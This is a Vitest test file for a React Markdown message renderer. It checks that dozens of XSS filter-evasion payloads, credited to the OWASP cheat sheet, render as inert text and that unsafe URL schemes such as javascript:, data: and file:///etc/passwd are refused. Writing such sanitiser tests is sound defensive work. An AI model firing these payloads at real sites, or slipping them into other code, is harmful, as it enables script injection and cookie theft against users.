import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';
import { plainExcerpt, safeUrl } from './markdown';

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

/** Filter-evasion payloads from the OWASP XSS Filter Evasion Cheat Sheet, typed as messages. */
const OWASP_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  "<svg/onload=alert('XSS')>",
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript&colon;alert(1)">x</a>',
  // the same tricks in Markdown's own syntax
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x]( javascript:alert(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://example.org/x.png" onerror="alert(1))',
  '[x](https://example.org/"onmouseover="alert(1))',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '**<img src=x onerror=alert(1)>**',
  '> <script>alert(1)</script>',
  '- <a href="javascript:alert(1)">x</a>',
  '@[<img src=x onerror=alert(1)>]',
  '`<script>alert(1)</script>`',
];

describe('messages render as a safe Markdown subset', () => {
  it('renders bold, italic, lists, quotes, code and mentions', () => {
    expect(render('**bold** _italic_ `code` @[Amina Hassan]')).toBe(
      '<p><strong>bold</strong> <em>italic</em> <code>code</code> <span class="mention">@Amina Hassan</span></p>',
    );
    expect(render('- one\n- two')).toBe('<ul>\n<li>one</li>\n<li>two</li>\n</ul>');
    expect(render('1. one')).toBe('<ol>\n<li>one</li>\n</ol>');
    expect(render('> quoted')).toBe('<blockquote>\n<p>quoted</p>\n</blockquote>');
  });

  it('opens http(s) and mailto links outside, passing nothing on', () => {
    expect(render('[site](https://example.org/a?b=1)')).toBe(
      '<p><a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer nofollow">site</a></p>',
    );
    expect(render('[mail](mailto:chair@example.org)')).toContain('href="mailto:chair@example.org"');
    expect(render('<http://example.org>')).toContain('href="http://example.org/"');
  });

  it('shows raw HTML as the text it is, and unsafe links as plain text', () => {
    expect(render('<img src=x onerror=alert(1)>')).toBe('&lt;img src=x onerror=alert(1)&gt;');
    expect(render('[x](javascript:alert(1))')).toBe('<p><span class="link-refused">x</span></p>');
    expect(render('[here](/plans/1)')).toBe('<p><span class="link-refused">here</span></p>');
    expect(render('# Title\n\n![alt](https://example.org/i.png)')).not.toMatch(/<h1|<img/);
  });

  it.each(OWASP_PAYLOADS)('leaves nothing that runs: %s', (payload) => {
    const html = render(payload);
    const tags = [...html.matchAll(/<([a-z][a-z0-9]*)\b([^>]*)>/gi)];
    for (const [, name, attributes] of tags) {
      expect(['p', 'br', 'strong', 'em', 'a', 'ul', 'ol', 'li', 'blockquote', 'code', 'span']).toContain(name);
      // no event handler, style or source attribute; hrefs only safe ones
      for (const [, attribute] of attributes!.matchAll(/\s([^\s=]+)=/g)) {
        expect(['href', 'target', 'rel', 'class']).toContain(attribute!.toLowerCase());
      }
      for (const [, href] of attributes!.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?|mailto):/);
    }
    // text keeps what was typed, escaped: every real tag starts with a bare `<`
    const markup = tags.map(([tag]) => tag).join('');
    expect(markup).not.toMatch(/<script|<img|<svg|<iframe|<object|<embed|<style|<meta|\son\w+=/i);
    expect(markup).not.toMatch(/(javascript|data|vbscript):/i);
    expect(html.replace(/<\/?[a-z][^>]*>/gi, '')).not.toContain('<');
  });

  it('makes one line of plain text for excerpts', () => {
    expect(plainExcerpt('> **Youth** first, see [the survey](https://x.org)\n- one\n- two @[Amina Hassan]', 200)).toBe(
      'Youth first, see the survey one two @Amina Hassan',
    );
    expect(plainExcerpt('مجالس الشباب أولاً', 5)).toBe('مجالس…');
  });

  it('refuses every scheme but http, https and mailto', () => {
    expect(safeUrl('https://example.org')).toBe('https://example.org/');
    expect(safeUrl('MAILTO:a@b.c')).toBe('mailto:a@b.c');
    for (const url of [
      'javascript:alert(1)',
      ' javascript:alert(1)',
      'java\nscript:x',
      'data:text/html,x',
      '//evil.org',
      'vbscript:x',
      'file:///etc/passwd',
      '/relative',
    ])
      expect(safeUrl(url)).toBeNull();
  });
});
